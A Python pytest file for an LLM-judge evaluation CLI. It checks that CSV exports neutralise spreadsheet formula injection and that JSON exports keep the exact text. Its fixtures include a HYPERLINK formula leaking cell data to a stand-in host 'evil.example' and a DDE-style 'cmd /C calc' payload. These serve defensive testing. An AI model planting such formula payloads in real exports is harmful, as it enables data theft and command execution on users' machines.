"""CSV exports are formula-safe (the OWASP rule), JSON exports keep the exact text; every CSV route of the CLI."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from judge.analysis.table_export import csv_text, safe_cell
from judge.cli import app
from judge.core.types import Winner
from judge.importers.bundle import ImportBundle
from judge.importers.records import PromptRecord, ResponseRecord, VoteRecord
from judge.store.engine import get_engine, session_scope
from judge.store.ingest import write_bundle
from judge.testing.fake_provider import FakeProvider

runner = CliRunner()
VOTER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CATEGORY = "-2+3+cmd|' /C calc'!A0"
GOOD = "@good"  # model names reach the leaderboard, the agreement breakdown and every verdict row
REASON = "+SUM(1,2)"
DANGEROUS = (VOTER, CATEGORY, GOOD, REASON, "\tindent", "\rcarriage", "-1+1", "-inf")


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, -3),
        (-0.25, "-0.25"),
        ("-3", "-3"),
        ("-1.5e-05", "-1.5e-05"),
        ("+4", "+4"),
        (None, None),
        (True, True),
        ("a=b", "a=b"),
        (" =1", " =1"),
        (["=x", 1], '["=x", 1]'),
    ],
)
def test_numbers_and_harmless_text_are_kept(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell


def test_csv_text_neutralises_every_cell_and_the_header() -> None:
    text = csv_text([{"name": VOTER, "rating": -12.5}, {"=header": "x"}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "rating", "'=header"]
    assert rows[1] == ["'" + VOTER, "-12.5", ""]


@pytest.fixture
def dangerous_db(judge_env: pytest.MonkeyPatch, tmp_path: Path) -> str:
    """A set whose voter, category and a model name are formulas."""
    url = f"sqlite:///{tmp_path / 'exports.db'}"
    judge_env.setenv("JUDGE_DATABASE_URL", url)
    assert runner.invoke(app, ["init"]).exit_code == 0
    bundle = ImportBundle(
        prompts=[PromptRecord(prompt_id=f"p{i}", category=CATEGORY, turns=[f"Question {i}?"]) for i in range(4)],
        responses=[
            ResponseRecord(prompt_id=f"p{i}", model=m, turns=[f"{m} answers {i} MARKER-{tag}"])
            for i in range(4)
            for m, tag in ((GOOD, "GOOD"), ("bad", "BAD"))
        ],
        votes=[
            VoteRecord(prompt_id=f"p{i}", model_a=GOOD, model_b="bad", winner=Winner.MODEL_A, voter=VOTER)
            for i in range(4)
        ],
    )
    with session_scope(get_engine(url)) as session:
        write_bundle(session, set_name="evil", bundle=bundle)
    return url


def cli(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(("=", "@", "\t", "\r")), cell
            assert not (cell or "").startswith(("+", "-")) or cell.lstrip("+-").replace(".", "").isdigit(), cell


def test_votes_export_csv_is_safe_and_jsonl_exact(dangerous_db: str) -> None:
    rows = csv_rows(cli("export", "votes", "--set", "evil", "--format", "csv"))
    assert len(rows) == 4 and {r["voter"] for r in rows} == {"'" + VOTER}
    assert {r["category"] for r in rows} == {"'" + CATEGORY} and {r["model_a"] for r in rows} == {"'" + GOOD}
    assert_safe(rows)
    exact = [json.loads(line) for line in cli("export", "votes", "--set", "evil").splitlines()]
    assert {(r["voter"], r["category"], r["model_a"]) for r in exact} == {(VOTER, CATEGORY, GOOD)}


def test_verdicts_agreement_and_leaderboard_csv_are_safe(dangerous_db: str, fake_provider: FakeProvider) -> None:
    fake_provider.script(
        default={
            "kind": "prefer_marker",
            "marker": "MARKER-GOOD",
            "rival": "MARKER-BAD",
            "template": '{"reason": "' + REASON + '", "verdict": "{verdict}"}',
        }  # type: ignore[arg-type]
    )
    cli("run", "--set", "evil", "--judge", "openai/fake", "--api-base", fake_provider.url)

    verdict_rows = [r for r in csv_rows(cli("export", "verdicts", "--run", "1", "--format", "csv")) if r["reason"]]
    assert len(verdict_rows) == 8 and {r["reason"] for r in verdict_rows} == {"'" + REASON}
    assert_safe(verdict_rows)
    exact = [json.loads(line) for line in cli("export", "verdicts", "--run", "1").splitlines()]
    assert {r["reason"] for r in exact if r["kind"] == "verdict"} == {REASON}

    agreement_args = ("agreement", "--set", "evil", "--a", "judge:openai/fake", "--b", "human", "--by", "category")
    agreement = csv_rows(cli(*agreement_args, "--format", "csv"))
    assert "'" + CATEGORY in {r["group"] for r in agreement}
    assert_safe(agreement)
    as_json = json.loads(cli(*agreement_args, "--format", "json"))
    assert list(as_json["groups"]) == [CATEGORY]

    board = csv_rows(cli("leaderboard", "--set", "evil", "--bootstrap", "10", "--format", "csv"))
    assert {r["model"] for r in board} == {"'" + GOOD, "bad"}
    assert all(float(r["rating"]) for r in board)  # ratings stay numbers
    assert_safe(board)
